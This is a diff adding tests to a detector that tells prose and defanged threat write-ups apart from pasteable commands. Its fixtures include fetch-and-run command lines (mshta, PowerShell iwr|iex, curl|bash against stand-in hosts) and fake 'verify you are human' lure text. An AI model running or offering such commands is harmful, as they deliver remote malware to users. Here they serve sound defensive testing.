@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from app.detection.prose import is_prose
+from app.detection.prose import is_prose, is_sample_write_up, is_write_up
 
 COMMENTS = "# Zoom SDK audio support update for the meeting client\n# Apple notarized helper and nothing else is required here\n"
 
@@ -45,3 +45,43 @@ def test_a_pipe_that_could_fetch_or_feed_more_than_plain_words_is_a_command() ->
         "Please continue the setup described on this page; iwr -useb x | iex",  # an option
     ):
         assert not is_prose(line), line
+
+
+TABLE = (
+    "| Date | Vector | Command family |\n|---|---|---|\n| 2026-12-01 | fake CAPTCHA | mshta |\n"
+    "| 2026-12-02 | fake update | powershell iwr/iex |"
+)
+
+
+def test_a_markdown_table_runs_nothing_and_is_read_as_a_report() -> None:
+    assert is_prose(TABLE)
+    # the sentences around it are weighed as usual
+    assert is_prose("Commands seen in the wave this week, by family:\n" + TABLE)
+
+
+def test_a_table_beside_a_command_or_a_pipe_led_continuation_is_not() -> None:
+    assert not is_prose(TABLE + "\nmshta https://a.test/v.hta")
+    # PowerShell 7 reads a line that begins with a pipe as the stage after the line before it
+    assert not is_prose("iwr https://a.test/a.ps1 -UseBasicParsing\n| iex")
+    assert not is_prose("| just one row | mshta |")
+
+
+def test_a_defanged_sample_set_apart_as_reports_set_it_is_quoted() -> None:
+    for text in (
+        'The loader we observed:\n\n```\npowershell -w h -c "iex (iwr hxxps://a[.]test/p)"\n```\n\n'
+        "It runs from the Run box, so its parent process is explorer.exe.",
+        "On macOS the page copies the following command:\n\n    curl -fsSL hxxps://a[.]test/i | bash\n\n"
+        "The script then asks for the user's password in a dialog.",
+        'A user reported that the clipboard held "mshta hxxps://a[.]test/v.hta" when they checked it.',
+    ):
+        assert is_sample_write_up(text), text
+        assert not is_write_up(text), text  # backticks alone do not see these
+
+
+def test_a_sample_with_an_order_or_a_command_outside_the_block_is_not() -> None:
+    assert not is_sample_write_up(
+        "Verify you are human:\n\n```\nmshta hxxps://a[.]test/v.hta\n```\n\nmshta hxxps://a[.]test/w"
+    )
+    assert not is_sample_write_up(
+        'To fix it, run: powershell -w h -c "iwr hxxps://a[.]test/p | iex"'
+    )
